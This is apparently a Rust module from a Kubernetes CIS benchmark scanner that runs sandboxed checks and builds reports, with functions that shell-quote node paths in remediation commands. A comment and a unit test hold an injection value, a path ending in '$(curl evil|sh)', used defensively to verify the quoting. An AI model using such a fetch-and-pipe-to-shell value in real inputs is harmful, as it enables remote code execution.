//! Runs a bundle's items on a node: selection by node type, variable
//! expansion, one sandboxed check per item, and the item's state.

use crate::bundle::{Bundle, Item};
use crate::node::discovery::{Discovery, NodeType};
use crate::node::{Node, NodePath, Source};
use crate::sandbox::{CheckRun, Grant, Outcome, Sandbox, SandboxError, Status};
use crate::selection::{Decision, Selection};
use kubecis_model::report::{CheckResult, NodeInfo, Report, SCHEMA, State};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Instant, SystemTime, UNIX_EPOCH};

/// What to scan and how.
#[derive(Debug, Clone, Default)]
pub struct ScanOptions {
    /// Node types to check; `None` = those the running components imply.
    pub targets: Option<Vec<NodeType>>,
    pub node_name: String,
    pub selection: Selection,
    /// The Kubernetes version stated by the user; otherwise discovery looks.
    pub kubernetes_version: Option<String>,
    /// How the benchmark was chosen, for the report.
    pub benchmark_from: String,
}

/// The node types to check and how they were chosen.
pub fn node_types(options: &ScanOptions, discovery: &Discovery) -> (Vec<NodeType>, String) {
    match &options.targets {
        Some(t) => (t.clone(), "given by the user".to_owned()),
        None => (
            crate::node::discovery::node_types(discovery),
            "found from the running components".to_owned(),
        ),
    }
}

/// One line of `kubecis plan`.
#[derive(Debug, Clone, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Planned {
    pub id: String,
    pub title: String,
    pub node_type: NodeType,
    #[serde(flatten)]
    pub decision: Decision,
    /// What the item's check may read on the node, in words.
    pub grants: Vec<String>,
    /// The larger memory cap it asks for, in words.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub memory: Option<String>,
}

/// What a scan with these options would do, item by item, without running a
/// check; `vars` are discovery's, to show grants as the node's paths.
pub fn plan(
    bundle: &Bundle,
    node: &str,
    node_types: &[NodeType],
    selection: &Selection,
    vars: &BTreeMap<String, String>,
) -> Vec<Planned> {
    bundle
        .items()
        .map(|(section, group, item)| Planned {
            id: item.id.clone(),
            title: item.title.clone(),
            node_type: section.node_type,
            decision: selection.decide(section, group, item, node, node_types),
            grants: item.grants.describe(&|p| expand(p, vars)),
            memory: item.grants.memory(),
        })
        .filter(|p| p.decision != Decision::Omit)
        .collect()
}

/// Load the components a bundle needs into the sandbox.
pub fn prepare(sandbox: &mut Sandbox, bundle: &Bundle) -> Result<(), SandboxError> {
    let mut needed: Vec<&str> = bundle
        .items()
        .filter_map(|(_, _, i)| i.check.as_deref())
        .collect();
    needed.sort();
    needed.dedup();
    for name in needed {
        let Some(component) = bundle.components.get(name) else {
            return Err(SandboxError::Component {
                name: name.to_owned(),
                message: "no such component".into(),
            });
        };
        // Loaded by digest: a warm sandbox serves every bundle, and a
        // bundle's own `flag` is not the built-in one.
        if !sandbox.has(&component.sha256) {
            sandbox.load(name, &component.wasm, &component.sha256)?;
        }
    }
    Ok(())
}

/// Scan a node with a bundle whose components are loaded.
pub fn scan(
    bundle: &Bundle,
    node: Arc<Node>,
    discovery: Arc<Discovery>,
    sandbox: &Sandbox,
    options: &ScanOptions,
) -> Report {
    let started = Instant::now();
    let started_at = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    let (node_types, node_types_from) = node_types(options, &discovery);
    let distribution = discovery.distribution.clone();
    // A bundle with a default profile (Rancher's distribution benchmarks) is
    // never run without one.
    let defaulted;
    let selection = match (&options.selection.profile, bundle.profile_for(None)) {
        (None, Ok(Some(profile))) => {
            defaulted = Selection {
                profile: Some(profile.clone()),
                ..options.selection.clone()
            };
            &defaulted
        }
        _ => &options.selection,
    };
    let decided: Vec<_> = bundle
        .items()
        .map(|(section, group, item)| {
            let decision = selection.decide(section, group, item, &options.node_name, &node_types);
            (section, group, item, decision)
        })
        .filter(|(_, _, _, d)| *d != Decision::Omit)
        .collect();
    // The items to run, judged as one batch (one check at a time: an
    // instance from the pool costs tens of microseconds).
    let to_run: Vec<&Item> = decided
        .iter()
        .filter(|(_, _, _, d)| *d == Decision::Run)
        .map(|(_, _, item, _)| *item)
        .collect();
    let mut judged = judge_all(bundle, &to_run, &discovery, node.clone(), sandbox).into_iter();
    let results: Vec<CheckResult> = decided
        .into_iter()
        .filter_map(|(section, group, item, decision)| {
            let mut skipped_by = None;
            let (state, outcome) = match decision {
                Decision::Omit => return None,
                Decision::Run => {
                    let (state, mut outcome) = judged.next()?;
                    if let Some(expired) = selection.expired_waiver(
                        section,
                        group,
                        item,
                        &options.node_name,
                        &node_types,
                    ) {
                        outcome.reason = if outcome.reason.is_empty() {
                            expired
                        } else {
                            format!("{}; {expired}", outcome.reason)
                        };
                    }
                    (state, outcome)
                }
                Decision::NotApplicable { reason } => {
                    (State::NotApplicable, bare(Status::NotApplicable, reason))
                }
                Decision::Skip { by, reason } => {
                    skipped_by = Some(by);
                    (State::Skip, bare(Status::NotApplicable, reason))
                }
            };
            Some(CheckResult {
                id: item.id.clone(),
                title: item.title.clone(),
                section_id: section.id.clone(),
                section: section.title.clone(),
                group_id: group.id.clone(),
                group: group.title.clone(),
                node_type: section.node_type,
                automated: item.automated,
                scored: item.scored,
                manual: item.check.is_none(),
                state,
                skipped_by,
                expected: outcome.expected,
                actual: outcome.actual,
                reason: outcome.reason,
                remediation: expand_for_shell(
                    item.remediation_on(&distribution.0).trim_end(),
                    &discovery.vars,
                ),
            })
        })
        .collect();

    // Asked last: the running binary's `--version` answered while the checks ran.
    let version = match &options.kubernetes_version {
        Some(v) => Some((v.clone(), "given by the user".to_owned())),
        None => discovery.kubernetes_version.get(),
    };
    Report {
        schema: SCHEMA.to_owned(),
        tool_version: env!("CARGO_PKG_VERSION").to_owned(),
        benchmark: bundle.benchmark.clone(),
        benchmark_title: bundle.title.clone(),
        benchmark_from: options.benchmark_from.clone(),
        bundle_origin: bundle.origin.to_string(),
        bundle_digest: bundle.digest.clone(),
        bundle_version: bundle.origin.version(),
        bundle_signer: bundle.origin.signer(),
        profile: selection.profile.as_ref().map(|p| p.name.clone()),
        node: NodeInfo {
            name: options.node_name.clone(),
            source: match node.source() {
                Source::Live => "live".to_owned(),
                Source::Root(dir) => format!("root:{}", dir.display()),
            },
            node_types,
            node_types_from,
            components: discovery
                .components()
                .into_iter()
                .map(str::to_owned)
                .collect(),
            arguments_from: discovery
                .arguments_from
                .iter()
                .map(|(c, from)| ((*c).to_owned(), from.clone()))
                .collect(),
            distribution: distribution.0,
            distribution_from: distribution.1,
            kubernetes_version: version.as_ref().map(|(v, _)| v.clone()),
            kubernetes_version_from: version.map(|(_, from)| from),
            files: discovery.vars.clone(),
        },
        started_at,
        duration_ms: started.elapsed().as_millis() as u64,
        totals: Report::count(&results),
        results,
    }
}

/// An outcome with no evidence, only a reason (a decision made before running).
fn bare(status: Status, reason: String) -> Outcome {
    Outcome {
        status,
        expected: String::new(),
        actual: String::new(),
        reason,
    }
}

/// Items' states and evidence, in order: outcomes known without running
/// (manual items, missing evidence) at once, the others' checks run as one
/// batch in the sandbox.
pub fn judge_all(
    bundle: &Bundle,
    items: &[&Item],
    discovery: &Arc<Discovery>,
    node: Arc<Node>,
    sandbox: &Sandbox,
) -> Vec<(State, Outcome)> {
    let mut known: Vec<Option<Outcome>> = Vec::with_capacity(items.len());
    let mut runs = Vec::new();
    for item in items {
        match known_outcome(item, discovery) {
            Some(outcome) => known.push(Some(outcome)),
            None => {
                known.push(None);
                runs.push(check_run(bundle, item, discovery));
            }
        }
    }
    let mut ran = sandbox.run_all(runs, node, discovery.clone()).into_iter();
    items
        .iter()
        .zip(known)
        .map(|(item, known)| {
            let outcome = known
                .or_else(|| ran.next())
                .unwrap_or_else(|| bare(Status::Error, "the check's outcome went missing".into()));
            state_of(item, outcome)
        })
        .collect()
}

/// What an item is without running its check: a manual item warns; known
/// missing evidence decides.
fn known_outcome(item: &Item, discovery: &Discovery) -> Option<Outcome> {
    match &item.check {
        None => Some(bare(Status::Warn, item.manual.clone().unwrap_or_default())),
        Some(_) => missing_evidence(item, discovery),
    }
}

/// The item's check with its settings and grant expanded for this node.
fn check_run(bundle: &Bundle, item: &Item, discovery: &Discovery) -> CheckRun {
    let vars = &discovery.vars;
    let paths = |list: &[String]| -> Vec<NodePath> {
        list.iter()
            .filter_map(|p| NodePath::parse(&expand(p, vars)))
            .collect()
    };
    let component = item.check.clone().unwrap_or_default();
    CheckRun {
        digest: bundle
            .components
            .get(&component)
            .map(|c| c.sha256.to_string())
            .unwrap_or_default(),
        component,
        settings: expand_json(&item.settings, vars).to_string(),
        grant: Grant {
            processes: item.grants.processes.clone(),
            environment: item.grants.environment.clone(),
            metadata: paths(&item.grants.metadata),
            content: paths(&item.grants.content),
            memory_bytes: item.grants.memory_mib.map(|m| m << 20),
        },
    }
}

/// The report's state for a check's status: a failure of a manual or
/// unscored item warns.
fn state_of(item: &Item, mut outcome: Outcome) -> (State, Outcome) {
    let state = match outcome.status {
        Status::Pass => State::Pass,
        Status::Fail if item.scored && item.automated => State::Fail,
        Status::Fail => {
            if outcome.reason.is_empty() {
                outcome.reason =
                    "did not pass; a manual or unscored item warns instead of failing".into();
            }
            State::Warn
        }
        Status::Warn => State::Warn,
        Status::NotApplicable => State::NotApplicable,
        Status::Error => State::Error,
    };
    (state, outcome)
}

/// Evidence an item needs that discovery already knows is not there: a
/// component that runs with arguments no one can read (error), or a file the
/// node's component does not name (not applicable).
fn missing_evidence(item: &Item, discovery: &Discovery) -> Option<Outcome> {
    let unreadable = item
        .grants
        .processes
        .iter()
        .find_map(|c| discovery.unreadable.get(c.as_str()));
    if let Some(why) = unreadable {
        return Some(bare(Status::Error, why.clone()));
    }
    if discovery.absent.is_empty() {
        return None;
    }
    let settings = item.settings.to_string();
    discovery
        .absent
        .iter()
        .find(|(var, _)| settings.contains(&format!("${{{var}}}")))
        .map(|(_, why)| bare(Status::NotApplicable, why.clone()))
}

/// `${name}` replaced by discovery's value; unknown names stay as written
/// (bundles are validated against discovery's [`variables`](crate::node::discovery::variables) when they load).
pub fn expand(text: &str, vars: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find('}') {
            Some(end) => {
                let name = &after[..end];
                match vars.get(name) {
                    Some(v) => out.push_str(v),
                    None => out.push_str(&rest[start..start + 3 + end]),
                }
                rest = &after[end + 1..];
            }
            None => {
                out.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// `expand` for remediation, whose commands a person may paste into a
/// shell: a value from the node (a path) with characters a shell would act
/// on (`config.yaml$(curl …)`, spaces, quotes) is single-quoted.
pub fn expand_for_shell(text: &str, vars: &BTreeMap<String, String>) -> String {
    let quoted: BTreeMap<String, String> = vars
        .iter()
        .map(|(k, v)| (k.clone(), shell_word(v)))
        .collect();
    expand(text, &quoted)
}

/// A word a POSIX shell reads back as `value`, left bare when it is plain.
pub fn shell_word(value: &str) -> String {
    // A leading `-` would be read as an option of the command.
    let plain = !value.is_empty()
        && !value.starts_with('-')
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+,:=@%".contains(&b));
    if plain {
        value.to_owned()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

fn expand_json(value: &serde_json::Value, vars: &BTreeMap<String, String>) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(s) => Value::String(expand(s, vars)),
        Value::Array(items) => Value::Array(items.iter().map(|v| expand_json(v, vars)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| (k.clone(), expand_json(v, vars)))
                .collect(),
        ),
        other => other.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn node_paths_in_remediation_are_quoted_for_a_shell() {
        let vars = BTreeMap::from([
            (
                "kubelet.conf".to_owned(),
                "/var/lib/kubelet/config.yaml".to_owned(),
            ),
            (
                "apiserver.conf".to_owned(),
                "/etc/x.yaml$(curl evil|sh)".to_owned(),
            ),
            ("etcd.conf".to_owned(), "/etc/it's here".to_owned()),
        ]);
        assert_eq!(
            expand_for_shell("chmod 600 ${kubelet.conf}", &vars),
            "chmod 600 /var/lib/kubelet/config.yaml"
        );
        assert_eq!(
            expand_for_shell("chmod 600 ${apiserver.conf}", &vars),
            "chmod 600 '/etc/x.yaml$(curl evil|sh)'"
        );
        assert_eq!(
            expand_for_shell("chown root:root ${etcd.conf}", &vars),
            r"chown root:root '/etc/it'\''s here'"
        );
    }

    #[test]
    fn expands_known_variables_and_keeps_the_rest() {
        let vars = BTreeMap::from([(
            "kubelet.conf".to_owned(),
            "/var/lib/kubelet/config.yaml".to_owned(),
        )]);
        assert_eq!(
            expand("chmod 600 ${kubelet.conf}", &vars),
            "chmod 600 /var/lib/kubelet/config.yaml"
        );
        assert_eq!(
            expand("${nope} and ${kubelet.conf}", &vars),
            "${nope} and /var/lib/kubelet/config.yaml"
        );
        assert_eq!(expand("dangling ${kubelet", &vars), "dangling ${kubelet");
    }
}
